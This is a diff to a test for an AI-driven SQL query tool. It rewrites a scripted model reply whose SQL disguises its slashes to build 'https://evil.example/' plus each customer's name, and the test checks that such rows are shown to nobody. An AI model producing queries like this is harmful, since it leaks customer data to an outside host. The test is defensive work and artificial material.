@@ -59,9 +59,8 @@ def test_plus_joins_texts_in_t_sql() -> None:
 
 
 async def test_the_rows_of_such_a_query_are_shown_to_nobody(ask: Ask, model: ScriptedModel) -> None:
-    made = (
-        "SELECT printf('%s%s', substr('xhttps:', 2), replace('|evil.example|', '|', '/')) || name AS v FROM customers"
-    )
+    slash = "char(40 + 7)"
+    made = f"SELECT substr('xhttps:', 2) || {slash} || {slash} || 'evil.example' || {slash} || name AS v FROM customers"
     model.replies(sql=made)
 
     answer = await ask("Which customers are there?", max_attempts=1)
